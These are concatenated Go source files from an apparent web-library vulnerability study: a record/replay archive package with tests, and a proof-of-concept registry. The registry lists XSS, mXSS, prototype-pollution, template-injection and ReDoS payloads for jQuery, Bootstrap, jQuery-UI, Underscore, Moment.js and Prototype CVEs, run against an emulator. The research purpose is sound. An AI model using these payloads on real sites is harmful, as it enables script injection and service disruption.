					t.Fatalf("budget %d of %d bytes neither faulted nor completed", budget, total)
				}
				res, err := store.Salvage(dir)
				if err != nil {
					t.Fatalf("salvage after fault at %d%%: %v", frac, err)
				}
				if res.Total < 0 {
					t.Fatalf("salvage result: %+v", res)
				}
				checkCommittedWeeksReplayable(t, dir, weeks, committed)
			})
		}
	}
}

// checkCommittedWeeksReplayable proves the durability contract on a
// salvaged bundle: it verifies, mounts, and serves every record of every
// committed week byte-exactly.
func checkCommittedWeeksReplayable(t *testing.T, dir string, weeks [][]Record, committed int) {
	t.Helper()
	if _, err := store.Verify(dir); err != nil {
		t.Fatalf("salvaged bundle fails verify: %v", err)
	}
	b, err := Mount(dir)
	if err != nil {
		t.Fatalf("salvaged bundle fails mount: %v", err)
	}
	for wk := 0; wk < committed; wk++ {
		for _, want := range weeks[wk] {
			got, ok := b.Get(want.Key)
			if !ok {
				t.Fatalf("committed week %d: record %q lost", wk, want.Key)
			}
			if got.Body != want.Body || got.Status != want.Status {
				t.Fatalf("committed week %d: record %q altered:\n got %+v\nwant %+v", wk, want.Key, got, want)
			}
		}
	}
	// Nothing invented: every surviving record must be one that was written.
	written := make(map[string]Record)
	for _, recs := range weeks {
		for _, rec := range recs {
			written[rec.Key] = rec
		}
	}
	for _, got := range b.Records() {
		want, ok := written[got.Key]
		if !ok || got.Body != want.Body {
			t.Fatalf("salvage invented record %q", got.Key)
		}
	}
}
