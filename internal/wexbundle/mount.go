// Mounting and inspecting bundles: the read side of record/replay.

package wexbundle

import (
	"encoding/json"
	"fmt"
	"sort"

	"clientres/internal/store"
)

// Bundle is a mounted (fully loaded) bundle archive: an in-memory replay
// index over every recorded fetch. Mounting verifies the manifest's member
// tables against the raw segment bytes before trusting a single record —
// a bit flip anywhere in the archive fails the mount, not the replay.
//
// The whole archive is held in memory; at the study's synthetic-web scale
// (kilobyte pages) that is the right trade for O(1) replay lookups.
type Bundle struct {
	dir  string
	meta Meta
	// index maps Key -> the last record appended under that key: a fetch
	// retried live, or re-fetched by a resumed recording, is superseded by
	// its final attempt — exactly the attempt that determined the live
	// run's observation.
	index map[string]Record
	// records counts every archived line, including superseded duplicates.
	records int
}

// Mount loads and verifies a bundle directory for replay.
func Mount(dir string) (*Bundle, error) {
	man, err := store.ReadManifest(dir)
	if err != nil {
		return nil, err
	}
	if man.Version != store.ManifestVersionBundle {
		return nil, fmt.Errorf("wexbundle: %s: not a bundle archive (manifest v%d); record one with -record", dir, man.Version)
	}
	for s := 0; s < man.Segments; s++ {
		if err := store.VerifyMemberTable(store.SegmentPath(dir, s), man.Members[s]); err != nil {
			return nil, err
		}
	}
	b := &Bundle{dir: dir, index: make(map[string]Record)}
	for s := 0; s < man.Segments; s++ {
		err := store.ForEachRawLine(store.SegmentPath(dir, s), func(line []byte) error {
			var rec Record
			if err := json.Unmarshal(line[1:], &rec); err != nil {
				return fmt.Errorf("wexbundle: %s: corrupt record: %w", store.SegmentPath(dir, s), err)
			}
			b.index[rec.Key] = rec
			b.records++
			return nil
		})
		if err != nil {
			return nil, err
		}
	}
	if b.records != man.Total {
		return nil, fmt.Errorf("wexbundle: %s: manifest declares %d records, segments hold %d", dir, man.Total, b.records)
	}
	b.meta, _ = ReadMeta(dir) // older bundles may lack bundle.json; replay still works
	return b, nil
}

// Dir returns the mounted directory.
func (b *Bundle) Dir() string { return b.dir }

// Meta returns the recorded run identity (zero when bundle.json is absent).
func (b *Bundle) Meta() Meta { return b.meta }

// Len returns the number of distinct replayable keys.
func (b *Bundle) Len() int { return len(b.index) }

// Get returns the record replayed for a key.
func (b *Bundle) Get(key string) (Record, bool) {
	rec, ok := b.index[key]
	return rec, ok
}

// Records returns every replayable record sorted by (week, key) — the
// deterministic iteration order offline re-audits (examples/vulndbdiff)
// need.
func (b *Bundle) Records() []Record {
	out := make([]Record, 0, len(b.index))
	for _, rec := range b.index {
		out = append(out, rec)
	}
	sort.Slice(out, func(i, j int) bool {
		if out[i].Week != out[j].Week {
			return out[i].Week < out[j].Week
		}
		return out[i].Key < out[j].Key
	})
	return out
}

// WeekStat aggregates one recorded week for fsck's bundle view.
type WeekStat struct {
	Week int
	// Records counts archived fetches (pages + scripts + URL audits,
	// including superseded duplicates); Pages the landing pages among them.
	Records int
	Pages   int
	// BodyBytes totals the raw recorded body bytes (uncompressed).
	BodyBytes int64
	// Failures counts records preserving a fetch error.
	Failures int
}

// Stats decodes a bundle (without mounting it whole) and aggregates
// per-week record/byte statistics, week-ascending.
func Stats(dir string) ([]WeekStat, error) {
	man, err := store.ReadManifest(dir)
	if err != nil {
		return nil, err
	}
	if man.Version != store.ManifestVersionBundle {
		return nil, fmt.Errorf("wexbundle: %s: not a bundle archive (manifest v%d)", dir, man.Version)
	}
	byWeek := make(map[int]*WeekStat)
	for s := 0; s < man.Segments; s++ {
		err := store.ForEachRawLine(store.SegmentPath(dir, s), func(line []byte) error {
			var rec Record
			if err := json.Unmarshal(line[1:], &rec); err != nil {
				return fmt.Errorf("wexbundle: %s: corrupt record: %w", store.SegmentPath(dir, s), err)
			}
			st := byWeek[rec.Week]
			if st == nil {
				st = &WeekStat{Week: rec.Week}
				byWeek[rec.Week] = st
			}
			st.Records++
			if rec.IsPage() {
				st.Pages++
			}
			st.BodyBytes += int64(len(rec.Body))
			if rec.Err != "" {
				st.Failures++
			}
			return nil
		})
		if err != nil {
			return nil, err
		}
	}
	out := make([]WeekStat, 0, len(byWeek))
	for _, st := range byWeek {
		out = append(out, *st)
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Week < out[j].Week })
	return out, nil
}
