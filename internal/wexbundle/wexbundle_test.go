package wexbundle

import (
	"errors"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"clientres/internal/store"
)

func mustURL(t *testing.T, raw string) *url.URL {
	t.Helper()
	u, err := url.Parse(raw)
	if err != nil {
		t.Fatal(err)
	}
	return u
}

func TestKeyScheme(t *testing.T) {
	cases := []struct {
		raw, want string
	}{
		// Crawl-web URLs key by path alone: port-independent replay.
		{"http://127.0.0.1:43211/w/7/example.com/", "/w/7/example.com/"},
		{"http://127.0.0.1:9/w/7/example.com/js/app.js", "/w/7/example.com/js/app.js"},
		// External audit URLs key by host+path(+query).
		{"http://shop.example/cart", "shop.example/cart"},
		{"https://shop.example/cart?page=2", "shop.example/cart?page=2"},
	}
	for _, tc := range cases {
		if got := Key(mustURL(t, tc.raw)); got != tc.want {
			t.Errorf("Key(%s) = %q, want %q", tc.raw, got, tc.want)
		}
	}
}

func TestSplitKey(t *testing.T) {
	if w, d := splitKey("/w/13/example.com/js/a.js", "h:1"); w != 13 || d != "example.com" {
		t.Errorf("splitKey crawl key = (%d, %q)", w, d)
	}
	if w, d := splitKey("shop.example/cart", "shop.example"); w != 0 || d != "shop.example" {
		t.Errorf("splitKey external key = (%d, %q)", w, d)
	}
}

// writeTestBundle records a small fixed set of fetches across two weeks
// and three domains into dir, committing week by week, and returns the
// records in append order.
func writeTestBundle(t *testing.T, dir string, segments int) []Record {
	t.Helper()
	w, err := Create(dir, Options{
		Segments:   segments,
		Checkpoint: true,
		Run:        store.RunID{Seed: 7, Domains: 3, Weeks: 2},
		Meta:       Meta{Domains: 3, Weeks: 2, Seed: 7},
	})
	if err != nil {
		t.Fatal(err)
	}
	var recs []Record
	for wk := 0; wk < 2; wk++ {
		for _, dom := range []string{"a.example", "b.example", "c.example"} {
			rec := Record{
				Week: wk, Domain: dom,
				Key:    "/w/" + itoa(wk) + "/" + dom + "/",
				Status: 200,
				Header: http.Header{"Content-Type": {"text/html"}},
				Body:   "<html>" + dom + " week " + itoa(wk) + "</html>",
				DurUS:  1200,
			}
			recs = append(recs, rec)
			if err := w.Append(rec); err != nil {
				t.Fatal(err)
			}
		}
		if err := w.CommitWeek(wk); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return recs
}

func itoa(n int) string {
	if n == 0 {
		return "0"
	}
	var b [20]byte
	i := len(b)
	for n > 0 {
		i--
		b[i] = byte('0' + n%10)
		n /= 10
	}
	return string(b[i:])
}

func TestRecordMountRoundTrip(t *testing.T) {
	for _, segments := range []int{1, 3} {
		dir := filepath.Join(t.TempDir(), "bundle")
		recs := writeTestBundle(t, dir, segments)
		b, err := Mount(dir)
		if err != nil {
			t.Fatalf("segments=%d: %v", segments, err)
		}
		if b.Len() != len(recs) {
			t.Fatalf("segments=%d: mounted %d keys, recorded %d", segments, b.Len(), len(recs))
		}
		for _, want := range recs {
			got, ok := b.Get(want.Key)
			if !ok {
				t.Fatalf("segments=%d: key %q missing", segments, want.Key)
			}
			if got.Body != want.Body || got.Status != want.Status || got.Week != want.Week {
				t.Errorf("segments=%d: key %q: got %+v want %+v", segments, want.Key, got, want)
			}
		}
		if got := b.Meta(); got.Domains != 3 || got.Weeks != 2 || got.Seed != 7 {
			t.Errorf("meta = %+v", got)
		}
		ordered := b.Records()
		for i := 1; i < len(ordered); i++ {
			if ordered[i].Week < ordered[i-1].Week ||
				(ordered[i].Week == ordered[i-1].Week && ordered[i].Key < ordered[i-1].Key) {
				t.Fatalf("Records() out of (week, key) order at %d", i)
			}
		}
	}
}

func TestLastRecordPerKeyWins(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "bundle")
	w, err := Create(dir, Options{Segments: 1})
	if err != nil {
		t.Fatal(err)
	}
	key := "/w/0/a.example/"
	for i, body := range []string{"first attempt", "retry wins"} {
		if err := w.Append(Record{Week: 0, Domain: "a.example", Key: key, Status: 200, Body: body}); err != nil {
			t.Fatalf("append %d: %v", i, err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	b, err := Mount(dir)
	if err != nil {
		t.Fatal(err)
	}
	if b.Len() != 1 {
		t.Fatalf("%d keys, want 1", b.Len())
	}
	if rec, _ := b.Get(key); rec.Body != "retry wins" {
		t.Errorf("replay serves %q, want the last append", rec.Body)
	}
}

// TestMountDetectsBitFlip is the archive-integrity proof: a single
// corrupted byte anywhere in a sealed bundle fails the mount (the member
// table is verified before any record is decoded).
func TestMountDetectsBitFlip(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "bundle")
	writeTestBundle(t, dir, 2)
	path := store.SegmentPath(dir, 0)
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	data[len(data)/2] ^= 0x40
	if err := os.WriteFile(path, data, 0o644); err != nil {
		t.Fatal(err)
	}
	if _, err := Mount(dir); err == nil {
		t.Fatal("Mount accepted a bit-flipped bundle")
	} else if !strings.Contains(err.Error(), "checksum") {
		t.Fatalf("want a checksum failure, got: %v", err)
	}
	if _, err := Stats(dir); err == nil {
		t.Fatal("Stats accepted a bit-flipped bundle")
	}
}

func TestMountRejectsObservationStore(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "store")
	sw, err := store.CreateSegmented(dir, 2)
	if err != nil {
		t.Fatal(err)
	}
	if err := sw.Write(store.Observation{Domain: "a.example", Status: 200}); err != nil {
		t.Fatal(err)
	}
	if err := sw.Close(); err != nil {
		t.Fatal(err)
	}
	if _, err := Mount(dir); err == nil {
		t.Fatal("Mount accepted a v3 observation store")
	}
}

func TestStats(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "bundle")
	w, err := Create(dir, Options{Segments: 2})
	if err != nil {
		t.Fatal(err)
	}
	appends := []Record{
		{Week: 0, Domain: "a.example", Key: "/w/0/a.example/", Status: 200, Body: "page a"},
		{Week: 0, Domain: "a.example", Key: "/w/0/a.example/js/app.js", Status: 200, Body: "script body"},
		{Week: 0, Domain: "b.example", Key: "/w/0/b.example/", Err: "connection refused"},
		{Week: 1, Domain: "a.example", Key: "/w/1/a.example/", Status: 200, Body: "page a again"},
	}
	for _, rec := range appends {
		if err := w.Append(rec); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	stats, err := Stats(dir)
	if err != nil {
		t.Fatal(err)
	}
	if len(stats) != 2 || stats[0].Week != 0 || stats[1].Week != 1 {
		t.Fatalf("stats weeks: %+v", stats)
	}
	w0 := stats[0]
	if w0.Records != 3 || w0.Pages != 2 || w0.Failures != 1 {
		t.Errorf("week 0: %+v", w0)
	}
	if w0.BodyBytes != int64(len("page a")+len("script body")) {
		t.Errorf("week 0 body bytes = %d", w0.BodyBytes)
	}
}

// TestReplayTransportServesRecords drives the replay RoundTripper through
// a real http.Client: success bodies and headers come back exactly as
// recorded, connection-level failures replay as transport errors, and
// mid-body failures fail the read at the recorded position.
func TestReplayTransportServesRecords(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "bundle")
	w, err := Create(dir, Options{Segments: 1})
	if err != nil {
		t.Fatal(err)
	}
	recs := []Record{
		{Week: 0, Domain: "a.example", Key: "/w/0/a.example/", Status: 200,
			Header: http.Header{"Content-Type": {"text/html"}}, Body: "<html>ok</html>"},
		{Week: 0, Domain: "b.example", Key: "/w/0/b.example/", Err: "dial tcp: connection refused"},
		{Week: 0, Domain: "c.example", Key: "/w/0/c.example/", Status: 200,
			Body: "partial bo", Err: "unexpected EOF"},
	}
	for _, rec := range recs {
		if err := w.Append(rec); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	b, err := Mount(dir)
	if err != nil {
		t.Fatal(err)
	}
	client := &http.Client{Transport: b.Transport()}

	resp, err := client.Get("http://no-such-host.invalid/w/0/a.example/")
	if err != nil {
		t.Fatalf("replayed fetch: %v", err)
	}
	body, err := io.ReadAll(resp.Body)
	resp.Body.Close()
	if err != nil || string(body) != "<html>ok</html>" || resp.StatusCode != 200 {
		t.Fatalf("replayed page: status %d body %q err %v", resp.StatusCode, body, err)
	}
	if got := resp.Header.Get("Content-Type"); got != "text/html" {
		t.Errorf("replayed header Content-Type = %q", got)
	}

	if _, err := client.Get("http://no-such-host.invalid/w/0/b.example/"); err == nil {
		t.Fatal("connection-failure record replayed as success")
	} else if !strings.Contains(err.Error(), "connection refused") {
		t.Errorf("replayed failure lost its cause: %v", err)
	}

	resp, err = client.Get("http://no-such-host.invalid/w/0/c.example/")
	if err != nil {
		t.Fatalf("mid-body record: %v", err)
	}
	body, err = io.ReadAll(resp.Body)
	resp.Body.Close()
	if string(body) != "partial bo" {
		t.Errorf("mid-body prefix = %q", body)
	}
	if err == nil || !strings.Contains(err.Error(), "unexpected EOF") {
		t.Errorf("mid-body error = %v", err)
	}

	// The zero-network guarantee: a key the bundle never recorded is an
	// error, not a live fetch — there is no inner transport to fall back
	// to, so nothing can reach the (nonexistent) host.
	if _, err := client.Get("http://no-such-host.invalid/w/9/zzz.example/"); err == nil {
		t.Fatal("unrecorded key replayed as success")
	} else if !strings.Contains(err.Error(), "no record") {
		t.Errorf("miss error = %v", err)
	}
}

// TestRecordingTransportArchivesExchanges proves the recorder is invisible
// to its caller (bodies pass through intact) while archiving every
// exchange, and that a replay of the archive reproduces the live fetches.
func TestRecordingTransportArchivesExchanges(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if strings.Contains(r.URL.Path, "missing") {
			http.NotFound(w, r)
			return
		}
		w.Header().Set("X-Probe", "live")
		io.WriteString(w, "body of "+r.URL.Path)
	}))
	defer srv.Close()

	dir := filepath.Join(t.TempDir(), "bundle")
	bw, err := Create(dir, Options{Segments: 1})
	if err != nil {
		t.Fatal(err)
	}
	client := &http.Client{Transport: &RecordingTransport{Inner: http.DefaultTransport, W: bw}}
	paths := []string{"/w/0/a.example/", "/w/0/a.example/js/app.js", "/w/0/missing.example/"}
	for _, p := range paths {
		resp, err := client.Get(srv.URL + p)
		if err != nil {
			t.Fatalf("live %s: %v", p, err)
		}
		body, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		if !strings.Contains(p, "missing") && string(body) != "body of "+p {
			t.Fatalf("recorder altered the live body: %q", body)
		}
	}
	if err := bw.Close(); err != nil {
		t.Fatal(err)
	}

	srv.Close() // replay must not need the server
	b, err := Mount(dir)
	if err != nil {
		t.Fatal(err)
	}
	if b.Len() != len(paths) {
		t.Fatalf("archived %d keys, want %d", b.Len(), len(paths))
	}
	replay := &http.Client{Transport: b.Transport()}
	resp, err := replay.Get(srv.URL + "/w/0/a.example/")
	if err != nil {
		t.Fatal(err)
	}
	body, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if string(body) != "body of /w/0/a.example/" {
		t.Errorf("replayed body = %q", body)
	}
	if got := resp.Header.Get("X-Probe"); got != "live" {
		t.Errorf("replayed header = %q", got)
	}
	resp, err = replay.Get(srv.URL + "/w/0/missing.example/")
	if err != nil || resp.StatusCode != 404 {
		t.Fatalf("replayed 404: status %v err %v", resp, err)
	}
	resp.Body.Close()
}

// TestRecordingTransportArchivesFailures: a connection-level failure is
// archived and replays as the same failure.
func TestRecordingTransportArchivesFailures(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "bundle")
	bw, err := Create(dir, Options{Segments: 1})
	if err != nil {
		t.Fatal(err)
	}
	inner := roundTripFunc(func(*http.Request) (*http.Response, error) {
		return nil, errors.New("dial tcp 127.0.0.1:1: connect: connection refused")
	})
	client := &http.Client{Transport: &RecordingTransport{Inner: inner, W: bw}}
	if _, err := client.Get("http://a.example/w/3/a.example/"); err == nil {
		t.Fatal("recorder swallowed the failure")
	}
	if err := bw.Close(); err != nil {
		t.Fatal(err)
	}
	b, err := Mount(dir)
	if err != nil {
		t.Fatal(err)
	}
	replay := &http.Client{Transport: b.Transport()}
	if _, err := replay.Get("http://a.example/w/3/a.example/"); err == nil {
		t.Fatal("archived failure replayed as success")
	} else if !strings.Contains(err.Error(), "connection refused") {
		t.Errorf("replayed failure = %v", err)
	}
}

type roundTripFunc func(*http.Request) (*http.Response, error)

func (f roundTripFunc) RoundTrip(r *http.Request) (*http.Response, error) { return f(r) }

func TestResumeRejectsObservationStore(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "store")
	run := store.RunID{Seed: 1, Domains: 1, Weeks: 1}
	sw, err := store.CreateSegmentedWith(dir, 1, store.SegmentedOptions{Checkpoint: true, Run: run})
	if err != nil {
		t.Fatal(err)
	}
	if err := sw.Write(store.Observation{Domain: "a.example", Status: 200}); err != nil {
		t.Fatal(err)
	}
	if err := sw.CommitWeek(0); err != nil {
		t.Fatal(err)
	}
	_ = sw.Abort()
	if _, _, err := Resume(dir, Options{Run: run}); err == nil {
		t.Fatal("Resume accepted an observation-store checkpoint")
	}
}

func TestCommitWeekStaleTolerant(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "bundle")
	run := store.RunID{Seed: 2, Domains: 1, Weeks: 3}
	w, err := Create(dir, Options{Segments: 1, Checkpoint: true, Run: run})
	if err != nil {
		t.Fatal(err)
	}
	if err := w.Append(Record{Week: 0, Domain: "a.example", Key: "/w/0/a.example/", Status: 200, Body: "x"}); err != nil {
		t.Fatal(err)
	}
	if err := w.CommitWeek(0); err != nil {
		t.Fatal(err)
	}
	// The crash-interleaving case: the store committed behind the bundle,
	// so the resumed run re-commits week 0. Must be a no-op, not an error.
	if err := w.CommitWeek(0); err != nil {
		t.Fatalf("re-commit of a committed week: %v", err)
	}
	if err := w.CommitWeek(1); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
}
