package poclab

import (
	"fmt"
	"strings"
)

// PoC is one proof-of-concept: a concrete attack input driven through the
// emulated library, returning whether the malicious effect was observed.
// The seven PoCs the paper found publicly (plus its reimplementations) are
// modeled after the published payloads; the rest follow the advisories'
// descriptions.
type PoC struct {
	AdvisoryID string
	Lib        string
	Title      string
	Run        func(*Env) bool
}

// evilDuration backtracks catastrophically against the vulnerable duration
// pattern: many repeatable units and a non-matching tail.
var evilDuration = strings.Repeat("1 ", 22) + "x"

// evilRFC2822 does the same for the RFC-2822 parser.
var evilRFC2822 = strings.Repeat("Jan ", 11) + "x"

// evilTag is an unterminated tag with many attribute-ish tokens, the
// stripTags killer input.
var evilTag = "<x " + strings.Repeat("w ", 20)

// pocs is the registry, in Table 2 row order.
var pocs = []PoC{
	// --- jQuery ---
	{
		AdvisoryID: "CVE-2020-7656", Lib: "jquery",
		Title: ".load() executes scripts in the response",
		Run: func(e *Env) bool {
			// The paper reimplemented this PoC (Listings 1 and 2): load an
			// inject.html whose body carries a script.
			e.JQuery().Load(`<div id="CVE-2020-7656"><script>alert('PWNED-7656');</script></div>`)
			return e.ScriptExecuted("PWNED-7656")
		},
	},
	{
		AdvisoryID: "CVE-2020-11023", Lib: "jquery",
		Title: "htmlPrefilter mXSS via <option> wrapping",
		Run: func(e *Env) bool {
			e.JQuery().OptionInsert(`<option><style><style/><img src=x onerror=PWNED-11023></style></option>`)
			return e.ScriptExecuted("PWNED-11023")
		},
	},
	{
		AdvisoryID: "CVE-2020-11022", Lib: "jquery",
		Title: "htmlPrefilter mXSS via DOM manipulation methods",
		Run: func(e *Env) bool {
			e.JQuery().HtmlInsert(`<style><style/><img src=x onerror=PWNED-11022></style>`)
			return e.ScriptExecuted("PWNED-11022")
		},
	},
	{
		AdvisoryID: "CVE-2019-11358", Lib: "jquery",
		Title: "$.extend(true, ...) prototype pollution",
		Run: func(e *Env) bool {
			e.JQuery().ExtendDeep(map[string]any{}, map[string]any{
				"__proto__": map[string]any{"isAdmin": "true"},
			})
			return e.PrototypePolluted("isAdmin")
		},
	},
	{
		AdvisoryID: "CVE-2015-9251", Lib: "jquery",
		Title: "cross-domain AJAX auto-executes script responses",
		Run: func(e *Env) bool {
			e.JQuery().AjaxCrossDomain("text/javascript", "PWNED-9251()")
			return e.ScriptExecuted("PWNED-9251")
		},
	},
	{
		AdvisoryID: "CVE-2014-6071", Lib: "jquery",
		Title: "jQuery(html, props) forwards html property unsafely",
		Run: func(e *Env) bool {
			e.JQuery().DollarProps("<option></option>", map[string]string{
				"html": `<img src=x onerror=PWNED-6071>`,
			})
			return e.ScriptExecuted("PWNED-6071")
		},
	},
	{
		AdvisoryID: "CVE-2012-6708", Lib: "jquery",
		Title: "jQuery(strInput) treats selector strings as HTML",
		Run: func(e *Env) bool {
			e.JQuery().Dollar(`#listitem <img src=x onerror=PWNED-6708>`)
			return e.ScriptExecuted("PWNED-6708")
		},
	},
	{
		AdvisoryID: "CVE-2011-4969", Lib: "jquery",
		Title: "location.hash selector XSS",
		Run: func(e *Env) bool {
			e.JQuery().HashSelector(`#<img src=x onerror=PWNED-4969>`)
			return e.ScriptExecuted("PWNED-4969")
		},
	},
	// --- Bootstrap ---
	{
		AdvisoryID: "CVE-2019-8331", Lib: "bootstrap",
		Title: "tooltip/popover template XSS",
		Run: func(e *Env) bool {
			e.Bootstrap().TooltipTemplate(`<div><img src=x onerror=PWNED-8331></div>`)
			return e.ScriptExecuted("PWNED-8331")
		},
	},
	{
		AdvisoryID: "CVE-2018-20676", Lib: "bootstrap",
		Title: "affix data-target XSS",
		Run: func(e *Env) bool {
			e.Bootstrap().AffixTarget(`<img src=x onerror=PWNED-20676>`)
			return e.ScriptExecuted("PWNED-20676")
		},
	},
	{
		AdvisoryID: "CVE-2018-20677", Lib: "bootstrap",
		Title: "tooltip viewport XSS",
		Run: func(e *Env) bool {
			e.Bootstrap().TooltipViewport(`<img src=x onerror=PWNED-20677>`)
			return e.ScriptExecuted("PWNED-20677")
		},
	},
	{
		AdvisoryID: "CVE-2018-14042", Lib: "bootstrap",
		Title: "tooltip data-container XSS",
		Run: func(e *Env) bool {
			e.Bootstrap().TooltipContainer(`<img src=x onerror=PWNED-14042>`)
			return e.ScriptExecuted("PWNED-14042")
		},
	},
	{
		AdvisoryID: "CVE-2018-14041", Lib: "bootstrap",
		Title: "scrollspy data-target XSS",
		Run: func(e *Env) bool {
			e.Bootstrap().ScrollSpyTarget(`<img src=x onerror=PWNED-14041>`)
			return e.ScriptExecuted("PWNED-14041")
		},
	},
	{
		AdvisoryID: "CVE-2018-14040", Lib: "bootstrap",
		Title: "collapse data-parent XSS",
		Run: func(e *Env) bool {
			e.Bootstrap().CollapseParent(`<img src=x onerror=PWNED-14040>`)
			return e.ScriptExecuted("PWNED-14040")
		},
	},
	{
		AdvisoryID: "CVE-2016-10735", Lib: "bootstrap",
		Title: "data-target attribute XSS",
		Run: func(e *Env) bool {
			e.Bootstrap().DataTarget(`<img src=x onerror=PWNED-10735>`)
			return e.ScriptExecuted("PWNED-10735")
		},
	},
	// --- jQuery-Migrate ---
	{
		AdvisoryID: "SNYK-JQMIGRATE-2013", Lib: "jquery-migrate",
		Title: "Migrate restores jQuery(strInput) HTML-anywhere behaviour",
		Run: func(e *Env) bool {
			e.Migrate().Dollar(`#sink <img src=x onerror=PWNED-MIGRATE>`)
			return e.ScriptExecuted("PWNED-MIGRATE")
		},
	},
	// --- jQuery-UI ---
	{
		AdvisoryID: "CVE-2010-5312", Lib: "jquery-ui",
		Title: "dialog title option XSS",
		Run: func(e *Env) bool {
			e.JQueryUI().DialogTitle(`<img src=x onerror=PWNED-5312>`)
			return e.ScriptExecuted("PWNED-5312")
		},
	},
	{
		AdvisoryID: "CVE-2012-6662", Lib: "jquery-ui",
		Title: "tooltip content XSS",
		Run: func(e *Env) bool {
			e.JQueryUI().TooltipContent(`<img src=x onerror=PWNED-6662>`)
			return e.ScriptExecuted("PWNED-6662")
		},
	},
	{
		AdvisoryID: "CVE-2016-7103", Lib: "jquery-ui",
		Title: "dialog closeText option XSS",
		Run: func(e *Env) bool {
			e.JQueryUI().DialogCloseText(`<img src=x onerror=PWNED-7103>`)
			return e.ScriptExecuted("PWNED-7103")
		},
	},
	{
		AdvisoryID: "CVE-2021-41182", Lib: "jquery-ui",
		Title: "datepicker altField XSS",
		Run: func(e *Env) bool {
			e.JQueryUI().DatepickerAltField(`<img src=x onerror=PWNED-41182>`)
			return e.ScriptExecuted("PWNED-41182")
		},
	},
	{
		AdvisoryID: "CVE-2021-41183", Lib: "jquery-ui",
		Title: "widget text options XSS",
		Run: func(e *Env) bool {
			e.JQueryUI().ButtonText(`<img src=x onerror=PWNED-41183>`)
			return e.ScriptExecuted("PWNED-41183")
		},
	},
	{
		AdvisoryID: "CVE-2021-41184", Lib: "jquery-ui",
		Title: ".position util 'of' option XSS",
		Run: func(e *Env) bool {
			e.JQueryUI().PositionOf(`<img src=x onerror=PWNED-41184>`)
			return e.ScriptExecuted("PWNED-41184")
		},
	},
	// --- Underscore ---
	{
		AdvisoryID: "CVE-2021-23358", Lib: "underscore",
		Title: "_.template variable option code injection",
		Run: func(e *Env) bool {
			e.Underscore().Template("<b>hello</b>", "obj=window.PWNED23358()||obj")
			return e.CodeInjected("PWNED23358")
		},
	},
	// --- Moment.js ---
	{
		AdvisoryID: "CVE-2017-18214", Lib: "moment",
		Title: "RFC-2822 parsing ReDoS",
		Run: func(e *Env) bool {
			e.Moment().ParseRFC2822(evilRFC2822)
			return e.DoSObserved()
		},
	},
	{
		AdvisoryID: "CVE-2016-4055", Lib: "moment",
		Title: "duration parsing ReDoS",
		Run: func(e *Env) bool {
			e.Moment().ParseDuration(evilDuration)
			return e.DoSObserved()
		},
	},
	// --- Prototype ---
	{
		AdvisoryID: "CVE-2020-27511", Lib: "prototype",
		Title: "stripTags ReDoS",
		Run: func(e *Env) bool {
			e.Prototype().StripTags(evilTag)
			return e.DoSObserved()
		},
	},
	{
		AdvisoryID: "CVE-2020-7993", Lib: "prototype",
		Title: "Ajax.Request missing authorization",
		Run: func(e *Env) bool {
			e.Prototype().AjaxRequestAuth()
			return e.AuthorizationBypassed()
		},
	},
}

// PoCs returns the full registry in Table 2 order.
func PoCs() []PoC {
	out := make([]PoC, len(pocs))
	copy(out, pocs)
	return out
}

// PoCFor returns the PoC for an advisory ID.
func PoCFor(id string) (PoC, error) {
	for _, p := range pocs {
		if p.AdvisoryID == id {
			return p, nil
		}
	}
	return PoC{}, fmt.Errorf("poclab: no PoC for %q", id)
}
