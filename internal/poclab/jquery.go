package poclab

import (
	"regexp"
	"strings"
)

// JQuery emulates the jQuery code paths the Table 2 advisories exercise.
// Each path is conditioned on the library's real version history via
// Env.in(introduced, fixed).
type JQuery struct{ env *Env }

// JQuery returns the jQuery emulator for the environment.
func (e *Env) JQuery() *JQuery { return &JQuery{env: e} }

// selfCloseTag matches XHTML-style self-closing tags the way jQuery's
// rxhtmlTag did; void elements are exempt from the rewrite as in the
// original (they are legitimately self-closing).
var selfCloseTag = regexp.MustCompile(`<([a-zA-Z][\w:-]*)((?:[^>"']|"[^"]*"|'[^']*')*?)/>`)

// htmlPrefilter reproduces jQuery's pre-3.5.0 behaviour of rewriting
// self-closing tags into open/close pairs: "<style/>" → "<style></style>".
// The rewrite is what re-arranges raw-text boundaries and mutates markup
// into executing nodes (the mXSS class of CVE-2020-11022/11023). jQuery
// 3.5.0 removed it, which is the fix.
func htmlPrefilter(html string) string {
	return selfCloseTag.ReplaceAllStringFunc(html, func(m string) string {
		sub := selfCloseTag.FindStringSubmatch(m)
		name := sub[1]
		if voidElement(strings.ToLower(name)) {
			return m
		}
		return "<" + name + sub[2] + "></" + name + ">"
	})
}

// HtmlInsert models the general DOM-manipulation entry (.html(), .append(),
// ...): the buggy prefilter is applied on the version span the paper's
// experiments established for CVE-2020-11022, then the (possibly rewritten)
// markup is parsed and inserted with jQuery's script-executing semantics.
func (q *JQuery) HtmlInsert(html string) {
	if q.env.in("1.12.0", "3.5.0") {
		html = htmlPrefilter(html)
	}
	q.env.insertHTML(html)
}

// OptionInsert models passing HTML that contains <option> elements, which
// routes through jQuery's wrapMap (introduced with 1.4.0) and hits the same
// prefilter — the CVE-2020-11023 entry point.
func (q *JQuery) OptionInsert(html string) {
	if !strings.Contains(strings.ToLower(html), "<option") {
